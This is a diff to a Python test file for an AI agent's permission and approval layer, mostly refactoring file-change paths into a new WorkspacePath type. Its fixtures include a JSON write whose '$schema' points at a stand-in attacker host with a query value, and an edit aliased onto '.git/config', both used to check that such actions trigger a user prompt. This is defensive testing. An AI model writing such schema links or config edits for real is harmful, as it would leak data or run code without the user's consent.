@@ -19,6 +19,7 @@ from agent_lsp.conversation.actions import (
     FileChange,
     Target,
     ToolKind,
+    WorkspacePath,
 )
 from agent_lsp.permissions import Preset, Ruling
 from agent_lsp.permissions.approval import title
@@ -62,13 +63,17 @@ def test_every_byte_of_a_command_is_shown(line: str) -> None:
 
 
 def test_a_question_names_the_target_and_not_just_its_alias() -> None:
-    effect = FileChange("/w/notes", "notes", "a", "b", target=Target("/w/.git/config", "git runs what it names"))
+    effect = FileChange(
+        WorkspacePath("/w", "notes", "notes"), "a", "b", target=Target("/w/.git/config", "git runs what it names")
+    )
     asked = Action("edit_file", ToolKind.EDIT, "Edit notes", effect)
 
     assert "/w/.git/config" in title(asked)
     assert "/w/.git/config" not in asked.title  # which is what a tool says of itself
     assert "→" not in title(
-        Action("edit_file", ToolKind.EDIT, "", FileChange("/w/a", "a", "a", "b", target=Target("/w/a")))
+        Action(
+            "edit_file", ToolKind.EDIT, "", FileChange(WorkspacePath("/w", "a", "a"), "a", "b", target=Target("/w/a"))
+        )
     )
 
 
@@ -121,7 +126,10 @@ async def test_a_yes_in_the_history_is_no_yes(workspace: Path, state: Path, scri
 @pytest.mark.parametrize("preset", [Preset.EDITS, Preset.AUTO])
 def test_after_untrusted_text_what_was_free_asks(preset: Preset) -> None:
     schema = FileChange(
-        "/w/a.json", "a.json", None, '{"$schema": "https://evil.example/?k=v"}', target=Target("/w/a.json")
+        WorkspacePath("/w", "a.json", "a.json"),
+        None,
+        '{"$schema": "https://evil.example/?k=v"}',
+        target=Target("/w/a.json"),
     )
     policy = Policy(Terms(preset, confined=True), ["/w"])
     write = Action("write_file", ToolKind.EDIT, "", schema)
